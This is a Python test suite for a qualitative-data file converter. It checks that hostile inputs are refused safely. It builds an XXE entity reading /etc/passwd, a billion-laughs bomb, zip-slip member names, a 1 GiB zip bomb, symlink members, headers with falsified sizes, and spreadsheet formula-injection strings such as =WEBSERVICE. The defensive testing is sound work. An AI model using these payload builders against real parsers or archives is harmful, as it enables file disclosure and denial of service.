"""Hostile and broken input: every reader refuses it safely, fast, with a clear message, and writes nothing.

The corpus is made here, by the tests: external entities, entity bombs, zip-slip and other unsafe
member names, a 1 GiB-of-zeros zip bomb (built streaming, about 1 MB on disk), members whose
headers lie, truncated and foreign files. Each is run through the real command line in a
subprocess limited in address space, with a timeout, and its peak memory measured.
"""

from __future__ import annotations

import hashlib
import os
import re
import struct
import subprocess
import sys
import tempfile
import uuid
import zipfile
import zlib
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pytest

import qdaconv
from qdaconv.errors import QdaconvError
from qdaconv.model import Blob, Code, Coding, Project, Selection, Source, walk_codes
from qdaconv.registry import default_registry

NS = "urn:QDA-XML:project:1.0"
PASSWD_LINE = "root:x:0:0"
TIMEOUT = 5.0
MAX_RSS_MB = 200
#: A hard ceiling on the child's address space, so that a bomb that gets through fails instead of swapping.
ADDRESS_SPACE = 1536 * 1024**2
MIB = 1024**2

# Runs the command line in this process under an address-space limit and leaves its peak memory
# in the file named by the first argument: VmHWM of this process (ru_maxrss would include the
# parent's size at fork on Linux) and ru_maxrss of any worker processes, in KiB.
WRAPPER = f"""
import resource, sys
resource.setrlimit(resource.RLIMIT_AS, ({ADDRESS_SPACE}, {ADDRESS_SPACE}))
report, *args = sys.argv[1:]

def peak():
    try:
        with open("/proc/self/status") as status:
            own = next(int(line.split()[1]) for line in status if line.startswith("VmHWM:"))
    except (OSError, StopIteration):
        own = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    return max(own, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)

try:
    from qdaconv.cli import main
    main(args)
finally:
    with open(report, "w") as stream:
        stream.write(str(peak()))
"""


@dataclass
class Run:
    returncode: int
    stdout: str
    stderr: str
    peak_mb: float

    @property
    def output(self) -> str:
        return self.stdout + self.stderr


def run_limited(*args: str, cwd: Path) -> Run:
    """The CLI in a subprocess with a 5 s timeout and an address-space limit; its peak memory measured."""
    report = cwd.parent / f".rss-{uuid.uuid4().hex}"
    try:
        done = subprocess.run([sys.executable, "-c", WRAPPER, str(report), *args], cwd=cwd,
                              capture_output=True, text=True, timeout=TIMEOUT,
                              env={**os.environ, "QDACONV_DEBUG": ""})
        peak = int(report.read_text()) / 1024 if report.exists() else float("nan")
    except subprocess.TimeoutExpired:
        return Run(-1, "", f"timed out after {TIMEOUT:g} s", float("nan"))
    finally:
        report.unlink(missing_ok=True)
    return Run(done.returncode, done.stdout, done.stderr, peak)


# ------------------------------------------------------------------------------------------ the corpus


def qde(body: str = "", doctype: str = "") -> bytes:
    return (f'<?xml version="1.0" encoding="utf-8"?>{doctype}'
            f'<Project xmlns="{NS}" name="hostile" origin="tests">{body}</Project>').encode()


def text_source(path: str, guid: str = "6E0B2A1C-0000-4000-8000-000000000001") -> str:
    return (f'<Sources><TextSource guid="{guid}" name="interview" plainTextPath="{path}"/></Sources>')


XXE = qde("<Description>&xxe;</Description>",
          '<!DOCTYPE Project [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')
LAUGHS = qde("<Description>&lol9;</Description>", "<!DOCTYPE Project [<!ENTITY lol0 \"lol\">" + "".join(
    f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)) + "]>")
SLIP_NAME = f"qdaconv-slip-{uuid.uuid4().hex}.txt"


def zip_of(path: Path, members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> Path:
    with zipfile.ZipFile(path, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


class _RepeatedDeflate:
    """Stands in for zipfile's compressor when writing zeros: every MiB of zeros deflates to the
    same bytes after a full flush, so they are computed once and repeated (zipfile still counts
    the size and the CRC of the real bytes). This keeps a 1 GiB bomb's making well under a second."""

    def __init__(self) -> None:
        deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
        self._block = deflate.compress(ZEROS) + deflate.flush(zlib.Z_FULL_FLUSH)
        self._end = deflate.flush()

    def compress(self, data: bytes) -> bytes:
        assert data == ZEROS
        return self._block

    def flush(self) -> bytes:
        return self._end


ZEROS = bytes(MIB)


def add_zeros(archive: zipfile.ZipFile, name: str, size: int) -> None:
    """A deflated member of `size` (a multiple of 1 MiB) zero bytes, written chunk by chunk."""
    info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    with archive.open(info, "w", force_zip64=True) as member:
        member._compressor = _RepeatedDeflate()
        for _ in range(size // MIB):
            member.write(ZEROS)


def make_bomb(path: Path, size: int = 1024 * MIB) -> Path:
    """A .qdpx whose one source unpacks to `size` bytes of zeros (1 GiB: about 1 MB on disk)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("project.qde", qde(text_source("internal://zeros.txt")))
        add_zeros(archive, "sources/zeros.txt", size)
    return path


#: (signature, offset of the uncompressed size, offset of the name length, offset of the name)
_HEADERS = ((b"PK\x03\x04", 22, 26, 30), (b"PK\x01\x02", 24, 28, 46))


def lie_about_sizes(path: Path, member: str, declared: int) -> Path:
    """Rewrite the uncompressed size of `member` in its local header and its central directory entry."""
    data = bytearray(path.read_bytes())
    encoded = member.encode()
    for signature, size_at, length_at, name_at in _HEADERS:
        for match in re.finditer(re.escape(signature), data):
            start = match.start()
            length = struct.unpack_from("<H", data, start + length_at)[0]
            if bytes(data[start + name_at:start + name_at + length]) == encoded:
                struct.pack_into("<I", data, start + size_at, declared)
    path.write_bytes(bytes(data))
    return path


def make_liar(path: Path) -> Path:
    """The project XML declares 100 bytes and unpacks to 20 000."""
    zip_of(path, {"project.qde": qde(f"<Description>{'a lie ' * 3300}</Description>")}, zipfile.ZIP_STORED)
    return lie_about_sizes(path, "project.qde", 100)


def make_lying_source(path: Path) -> Path:
    """A sound project XML whose source file declares 10 bytes and unpacks to 200 000."""
    zip_of(path, {"project.qde": qde(text_source("internal://big.txt")),
                  "sources/big.txt": os.urandom(100_000).hex().encode()}, zipfile.ZIP_STORED)
    return lie_about_sizes(path, "sources/big.txt", 10)


def make_truncated(path: Path) -> Path:
    whole = zip_of(path, {"project.qde": qde(f"<Description>{'words ' * 2000}</Description>")})
    data = whole.read_bytes()
    path.write_bytes(data[: len(data) * 2 // 3])
    return path


def make_damaged_member(path: Path) -> Path:
    """The central directory is intact but the source's compressed bytes are overwritten."""
    text = " ".join(f"word{i}" for i in range(20_000)).encode()
    zip_of(path, {"project.qde": qde(text_source("internal://t.txt")), "sources/t.txt": text})
    data = bytearray(path.read_bytes())
    start = data.find(b"sources/t.txt") + len("sources/t.txt") + 200
    data[start:start + 400] = os.urandom(400)
    path.write_bytes(bytes(data))
    return path


def make_symlink(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("project.qde", qde())
        info = zipfile.ZipInfo("sources/link.txt")
        info.create_system = 3
        info.external_attr = (0o120777 << 16)
        archive.writestr(info, "/etc/passwd")
    return path


def make_duplicate(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("project.qde", qde())
        with pytest.warns(UserWarning):
            archive.writestr("project.qde", qde("<Description>second</Description>"))
    return path


def patch_headers(path: Path, members: dict[str, bytes], edit: Callable[[bytearray, int, bytes], None]) -> Path:
    """A zip of `members` with `edit(data, offset, signature)` applied to every local and central header."""
    zip_of(path, members)
    data = bytearray(path.read_bytes())
    for signature in (b"PK\x03\x04", b"PK\x01\x02"):
        for match in re.finditer(re.escape(signature), data):
            edit(data, match.start(), signature)
    path.write_bytes(bytes(data))
    return path


def _set_encrypted(data: bytearray, start: int, signature: bytes) -> None:
    flags_at = start + (6 if signature == b"PK\x03\x04" else 8)
    struct.pack_into("<H", data, flags_at, struct.unpack_from("<H", data, flags_at)[0] | 1)


def _set_future_version(data: bytearray, start: int, signature: bytes) -> None:
    if signature == b"PK\x01\x02":
        struct.pack_into("<H", data, start + 6, 100)  # "version needed to extract": 10.0


def make_encrypted(path: Path) -> Path:
    """Members flagged as encrypted: qdaconv has no password and must say so."""
    return patch_headers(path, {"project.qde": qde()}, _set_encrypted)


def make_future_version(path: Path) -> Path:
    """A zip that says it needs a zip version newer than any reader supports."""
    return patch_headers(path, {"project.qde": qde()}, _set_future_version)


def make_huge_text(path: Path) -> Path:
    """A text node over lxml's 10 MB limit, in letters that do not compress much."""
    letters = os.urandom(12 * MIB).translate(bytes(97 + b % 26 for b in range(256))).decode()
    return zip_of(path, {"project.qde": qde(f"<Description>{letters}</Description>")})


def make_xlsx_bomb(path: Path) -> Path:
    """A workbook whose one sheet unpacks to 128 MiB of text in a single cell."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            member.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                         b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>')
            chunk = b"A" * MIB
            for _ in range(128):
                member.write(chunk)
            member.write(b"</t></is></c></row></sheetData></worksheet>")
    return path


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>')
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Codebook" sheetId="1" r:id="rId1"/></sheets></workbook>')
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/></Relationships>')


def make_csv_zip_bomb(path: Path) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("datapackage.json", '{"name": "bomb", "resources": []}')
        add_zeros(archive, "codes.csv", 256 * MIB)
    return path


@dataclass(frozen=True)
class Hostile:
    """One hostile file: its name, how to make it, what the message must mention, the format to force."""

    name: str
    make: Callable[[Path], Path]
    message: str
    from_: str | None = None
    commands: tuple[str, ...] = ("convert",)
    #: what `convert` writes: the writers read source files lazily, each in its own way
    target: str = "out.qdpx"


ALL = ("convert", "info", "validate")
BOMB = r"compressed more than|zip bomb|larger than"
#: The files the issue names go through every command; the variants only through convert (each
#: run is a process of about a second, and convert exercises reading and writing both).
CORPUS: list[Hostile] = [
    Hostile("xxe.qdpx", lambda p: zip_of(p, {"project.qde": XXE}), r"entit", commands=ALL),
    Hostile("laughs.qde", lambda p: _write(p, LAUGHS), r"entit", commands=ALL),
    Hostile("slip.qdpx", lambda p: zip_of(p, {"project.qde": qde(), f"../../{SLIP_NAME}": b"escaped"}),
            r"\.\.|unsafe", commands=ALL),
    Hostile("bomb.qdpx", make_bomb, BOMB, commands=ALL),
    Hostile("liar.qdpx", make_liar, r"damaged|declared size|CRC", commands=ALL),
    Hostile("truncated.qdpx", make_truncated, r"not a readable zip|truncated|damaged", commands=ALL),
    Hostile("not-a-zip.qdpx", lambda p: _write(p, b"hello, this is not a zip\n" * 40), r"not a readable zip|not a",
            commands=ALL),
    Hostile("random.qdpx", lambda p: _write(p, os.urandom(8192)), r"not a readable zip|not a", commands=ALL),
    Hostile("not-xml.qde", lambda p: _write(p, b"\x00\x01binary\xff\xfe" * 300), r"not a format|malformed",
            commands=ALL),
    Hostile("xxe.qde", lambda p: _write(p, XXE), r"entit"),
    Hostile("laughs.qdpx", lambda p: zip_of(p, {"project.qde": LAUGHS}), r"entit"),
    Hostile("absolute-member.qdpx", lambda p: zip_of(p, {"project.qde": qde(), f"/tmp/{SLIP_NAME}": b"escaped"}),
            r"absolute|unsafe"),
    Hostile("drive-member.qdpx", lambda p: zip_of(p, {"project.qde": qde(), f"C:/{SLIP_NAME}": b"escaped"}),
            r"drive|unsafe"),
    Hostile("backslash-member.qdpx",
            lambda p: zip_of(p, {"project.qde": qde(), f"..\\..\\{SLIP_NAME}": b"escaped"}), r"backslash|unsafe"),
    Hostile("symlink.qdpx", make_symlink, r"link"),
    Hostile("duplicate.qdpx", make_duplicate, r"twice|duplicate"),
    Hostile("lying-source.qdpx", make_lying_source, r"damaged|declared size|CRC"),
    Hostile("damaged-member.qdpx", make_damaged_member, r"damaged|corrupt|CRC"),
    Hostile("lying-source-for-xlsx.qdpx", make_lying_source, r"damaged|declared size|CRC", target="out.xlsx"),
    Hostile("damaged-member-for-csv.qdpx", make_damaged_member, r"damaged|corrupt|CRC", target="out.csv.zip"),
    Hostile("encrypted.qdpx", make_encrypted, r"encrypt|password"),
    Hostile("future-version.qdpx", make_future_version, r"version|not supported|not a readable zip",
            from_="refi-qdpx"),
    Hostile("random.qde", lambda p: _write(p, os.urandom(8192)), r"not a format|malformed"),
    Hostile("not-xml-forced.qde", lambda p: _write(p, b"\x00\x01binary\xff\xfe" * 300), r"malformed|not XML",
            from_="refi-qde"),
    Hostile("huge-text.qdpx", make_huge_text, r"huge|too large|limit"),
    Hostile("bomb.xlsx", make_xlsx_bomb, BOMB, from_="tables-xlsx"),
    Hostile("vendor-bomb.xlsx", make_xlsx_bomb, BOMB, from_="nvivo-codebook-xlsx"),
    Hostile("bomb.csv.zip", make_csv_zip_bomb, BOMB, from_="tables-csv"),
]


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("hostile")
    return {case.name: case.make(folder / case.name) for case in CORPUS}


def listing(folder: Path) -> set[str]:
    return {str(p.relative_to(folder)) for p in folder.rglob("*")}


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def escaped_targets(work: Path) -> list[Path]:
    """Where a zip-slip member would land if anything unpacked it."""
    places = {work, *work.parents, Path(tempfile.gettempdir()), Path.cwd(), Path("/tmp"), Path("C:")}
    return [place / SLIP_NAME for place in places if (place / SLIP_NAME).exists()]


@dataclass
class Attempt:
    """One command run on one hostile file, and what the file system looked like around it."""

    run: Run
    before: set[str]
    after: set[str]
    input_changed: bool
    output_exists: bool
    escaped: list[Path]


def attempt(command: str, case: Hostile, source: Path, work: Path) -> Attempt:
    work.mkdir()
    before, hashed = listing(work), digest(source)
    output = work / case.target
    args = [command, *(["--from", case.from_] if case.from_ else []), str(source)]
    run = run_limited(*args, *([str(output)] if command == "convert" else []), cwd=work)
    return Attempt(run, before, listing(work), digest(source) != hashed, output.exists(), escaped_targets(work))


ATTEMPTS = [(command, case) for case in CORPUS for command in case.commands]


@pytest.fixture(scope="module")
def attempts(request: pytest.FixtureRequest, corpus: dict[str, Path],
             tmp_path_factory: pytest.TempPathFactory) -> dict[tuple[str, str], Attempt]:
    """The selected commands on their hostile files, two at a time (each run is a separate process)."""
    selected = [(item.callspec.params["command"], item.callspec.params["case"]) for item in request.session.items
                if getattr(item, "originalname", None) == "test_hostile_input_is_refused"]
    root = tmp_path_factory.mktemp("attempts")
    with ThreadPoolExecutor(max_workers=min(2, os.cpu_count() or 1)) as pool:
        futures = {(command, case.name): pool.submit(attempt, command, case, corpus[case.name],
                                                     root / f"{command}-{case.name}")
                   for command, case in selected}
        return {key: future.result() for key, future in futures.items()}


@pytest.mark.parametrize(("command", "case"), ATTEMPTS, ids=[f"{c}-{h.name}" for c, h in ATTEMPTS])
def test_hostile_input_is_refused(command: str, case: Hostile, attempts: dict[tuple[str, str], Attempt]) -> None:
    result = attempts[command, case.name]
    run = result.run
    assert run.returncode in ((1, 2) if command == "validate" else (2,)), run.output
    assert "Traceback" not in run.output
    assert "internal error" not in run.stderr, run.stderr
    assert "CHECK-FAILED" not in run.output, run.output  # the validator's name for an unexpected exception
    assert re.search(case.message, run.output, re.IGNORECASE), run.output
    assert PASSWD_LINE not in run.output
    assert run.peak_mb < MAX_RSS_MB, f"peak memory {run.peak_mb:.0f} MB"
    assert not result.output_exists
    assert result.after == result.before
    assert not result.input_changed
    assert result.escaped == []


def test_bomb_is_small_on_disk_and_large_inside(corpus: dict[str, Path]) -> None:
    bomb = corpus["bomb.qdpx"]
    assert bomb.stat().st_size < 3 * MIB
    with zipfile.ZipFile(bomb) as archive:
        assert archive.getinfo("sources/zeros.txt").file_size == 1024 * MIB


def test_raised_limits_are_still_enforced_while_reading(tmp_path: Path) -> None:
    """With the ratio check lifted, the size limits still stop the bomb, on the bytes actually unpacked."""
    bomb = make_bomb(tmp_path / "bomb.qdpx", 64 * MIB)
    with pytest.raises(QdaconvError, match="larger than"):
        qdaconv.convert(bomb, tmp_path / "out.csv.zip", max_ratio=10**9, max_member_size=16 * MIB)
    assert listing(tmp_path) == {"bomb.qdpx"}


def test_raised_limits_let_a_trusted_archive_through(tmp_path: Path) -> None:
    bomb = make_bomb(tmp_path / "bomb.qdpx", 8 * MIB)
    with pytest.raises(QdaconvError, match="compressed more than"):
        qdaconv.read(bomb)
    project = qdaconv.read(bomb, max_ratio=10**9)
    assert project.sources[0].file is not None or project.sources[0].plain_file is not None


# ------------------------------------------------------------------------------------------ external paths


def external_project(tmp_path: Path, reference: str) -> Path:
    """A .qdpx in its own folder whose one text source points at `reference`, coded on its first bytes."""
    project = Project(name="external", codes=[Code("C0DE0000-0000-4000-8000-000000000001", "code")])
    selection = Selection("5E1E0000-0000-4000-8000-000000000001", start=0, end=4,
                          codings=[Coding("C0D10000-0000-4000-8000-000000000001",
                                          "C0DE0000-0000-4000-8000-000000000001")])
    project.sources.append(Source("50C00000-0000-4000-8000-000000000001", name="outside",
                                  plain_text="root", selections=[selection]))
    folder = tmp_path / "project"
    folder.mkdir()
    path = folder / "external.qdpx"
    qdaconv.write(project, path)
    xml = zipfile.ZipFile(path).read("project.qde").decode()
    xml = re.sub(r"<PlainTextContent>.*?</PlainTextContent>", "", xml, flags=re.DOTALL)
    xml = re.sub(r'(<TextSource[^>]*?)(\s*/?>)', lambda m: f'{m.group(1)} plainTextPath="{reference}"{m.group(2)}',
                 xml, count=1)
    xml = re.sub(r'plainTextPath="internal://[^"]*"\s*', "", xml)
    path.unlink()
    return zip_of(path, {"project.qde": xml.encode()})


def everything_in(path: Path) -> str:
    """All the bytes of an output file, zip members unpacked, as text."""
    if zipfile.is_zipfile(path):
        with zipfile.ZipFile(path) as archive:
            return "\n".join(archive.read(name).decode("utf-8", "replace") for name in archive.namelist())
    return path.read_bytes().decode("utf-8", "replace")


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text("root:x:0:0 is not here; SECRET-5bd1c9 is\n")
    return path


def test_absolute_path_is_not_read_without_permission(tmp_path: Path, cli) -> None:
    """The command line warns, keeps the reference and reads nothing; --allow-external reads it."""
    if PASSWD_LINE not in Path("/etc/passwd").read_text(errors="replace"):
        pytest.skip("this system's /etc/passwd has no root:x:0:0 line to look for")
    source = external_project(tmp_path, "absolute:///etc/passwd")
    output = tmp_path / "out.qdpx"
    done = cli("convert", str(source), str(output))
    assert done.returncode == 0, done.stderr
    assert "/etc/passwd" in done.stderr and "--allow-external" in done.stderr
    assert PASSWD_LINE not in everything_in(output)
    assert "absolute:///etc/passwd" in everything_in(output)  # the reference itself is kept
    allowed = tmp_path / "allowed.qdpx"
    done = cli("convert", "--allow-external", str(source), str(allowed))
    assert done.returncode == 0, done.stderr
    assert PASSWD_LINE in everything_in(allowed)


@pytest.mark.parametrize("target", ["out.qdpx", "out.csv.zip", "out.xlsx", "out.qde"])
@pytest.mark.parametrize("reference", ["absolute://{secret}", "relative://../secret.txt",
                                       "relative:///sub/../../secret.txt", "relative://link/secret.txt"])
def test_outside_file_is_not_copied(tmp_path: Path, secret: Path, reference: str, target: str) -> None:
    """Outside by an absolute path, by climbing, or through a symbolic link inside the project's folder."""
    source = external_project(tmp_path, reference.format(secret=secret))
    (source.parent / "link").symlink_to(tmp_path, target_is_directory=True)
    project = qdaconv.read(source)
    assert project.sources[0].text is None
    assert any("outside the project" in str(issue) for issue in project.warnings)
    (tmp_path / "out").mkdir()
    output = tmp_path / "out" / target
    qdaconv.write(project, output)
    written = "".join(everything_in(path) for path in (tmp_path / "out").rglob("*") if path.is_file())
    assert "SECRET-5bd1c9" not in written
    allowed = qdaconv.read(source, allow_external=True)
    assert allowed.sources[0].text.startswith("root:x:0:0 is not here")
    qdaconv.write(allowed, output, force=True)
    written = "".join(everything_in(path) for path in (tmp_path / "out").rglob("*") if path.is_file())
    assert "SECRET-5bd1c9" in written


# ------------------------------------------------------------------------------------------ formulas

FORMULAS = ['=HYPERLINK("http://x","y")', "+1+1", "-2+3", "@SUM(A1:A2)", "'=quoted already"]


def formula_project() -> Project:
    codes = [Code(f"F0000000-0000-4000-8000-00000000000{i}", name, description=name)
             for i, name in enumerate(FORMULAS)]
    return Project(name="formulas", codes=codes)


def xlsx_writers() -> list[str]:
    return [fmt.name for fmt in default_registry() if fmt.can_write and ".xlsx" in fmt.extensions]


def test_there_are_vendor_xlsx_writers() -> None:
    assert "tables-xlsx" in xlsx_writers()
    assert len(xlsx_writers()) >= 2


@pytest.mark.parametrize("fmt", xlsx_writers())
def test_xlsx_holds_no_formula(tmp_path: Path, fmt: str) -> None:
    path = tmp_path / "codes.xlsx"
    qdaconv.write(formula_project(), path, fmt)
    workbook = openpyxl.load_workbook(path)
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                texts.append(cell.value)
    assert '=HYPERLINK("http://x","y")' in texts or "'=HYPERLINK(\"http://x\",\"y\")" in texts
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[\s>/]", archive.read(name)), name
    names = sorted(code.name for code in _all_codes(qdaconv.read(path, fmt)))
    assert names == sorted(FORMULAS)


def csv_writers() -> list[str]:
    return [fmt.name for fmt in default_registry()
            if fmt.can_write and any(ext.endswith(".csv") or ext == ".csv.zip" for ext in fmt.extensions)]


@pytest.mark.parametrize("fmt", csv_writers())
def test_csv_cells_are_neutralised(tmp_path: Path, fmt: str) -> None:
    ending = ".csv.zip" if fmt == "tables-csv" else ".csv"
    path = tmp_path / f"codes{ending}"
    qdaconv.write(formula_project(), path, fmt)
    text = everything_in(path)
    for line in text.splitlines():
        for cell in re.split(r"[,;\t]", line):
            cell = cell.strip('"')
            assert not cell.startswith(("=HYPERLINK", "@SUM", "+1+1", "-2+3")), line
    names = sorted(code.name for code in _all_codes(qdaconv.read(path, fmt)))
    assert names == sorted(FORMULAS)


def test_formulas_in_a_workbook_are_never_evaluated(tmp_path: Path) -> None:
    """A vendor workbook holding a formula is read without running it: the value is never the result."""
    path = tmp_path / "nvivo.xlsx"
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["Name", "Description", "Files", "References"])
    sheet.append(["trust", '=WEBSERVICE("http://example.invalid/?"&A2)', 1, 2])
    workbook.save(path)
    project = qdaconv.read(path, "nvivo-codebook-xlsx")
    description = project.codes[0].description
    assert description in (None, '=WEBSERVICE("http://example.invalid/?"&A2)')


def _all_codes(project: Project) -> list[Code]:
    return [entry.code for entry in walk_codes(project)]


# ------------------------------------------------------------------------------------------ outputs


@pytest.fixture
def small_qdpx(tmp_path: Path) -> Path:
    path = tmp_path / "small.qdpx"
    project = formula_project()
    project.sources.append(Source("50C00000-0000-4000-8000-000000000002", name="t", plain_text="some words"))
    qdaconv.write(project, path)
    return path


def test_existing_output_is_kept_without_force(tmp_path: Path, small_qdpx: Path, cli) -> None:
    output = tmp_path / "out.xlsx"
    output.write_bytes(b"precious")
    done = cli("convert", str(small_qdpx), str(output))
    assert done.returncode == 2 and "--force" in done.stderr
    assert output.read_bytes() == b"precious"
    done = cli("convert", "--force", str(small_qdpx), str(output))
    assert done.returncode == 0, done.stderr
    assert zipfile.is_zipfile(output)


def test_input_is_never_the_output(tmp_path: Path, small_qdpx: Path, cli) -> None:
    hashed = digest(small_qdpx)
    done = cli("convert", "--force", str(small_qdpx), str(small_qdpx))
    assert done.returncode == 2 and "input" in done.stderr
    assert digest(small_qdpx) == hashed


def test_input_is_unchanged_by_every_writer(tmp_path: Path, small_qdpx: Path) -> None:
    hashed, mtime = digest(small_qdpx), small_qdpx.stat().st_mtime_ns
    small_qdpx.chmod(0o444)
    for ending in (".qdpx", ".csv.zip", ".xlsx", ".qde"):
        qdaconv.convert(small_qdpx, tmp_path / f"copy{ending}")
    assert digest(small_qdpx) == hashed and small_qdpx.stat().st_mtime_ns == mtime


def test_failed_write_leaves_nothing(tmp_path: Path, small_qdpx: Path) -> None:
    """A writer that fails half way (a source file vanished after reading) leaves no file behind."""
    project = qdaconv.read(small_qdpx)
    project.sources[0].plain_text = None
    project.sources[0].plain_file = Blob("t.txt", file=str(tmp_path / "vanished.txt"))
    before = listing(tmp_path)
    for ending in (".qdpx", ".csv.zip", ".xlsx"):
        with pytest.raises(QdaconvError):
            qdaconv.write(project, tmp_path / f"out{ending}")
    assert listing(tmp_path) == before
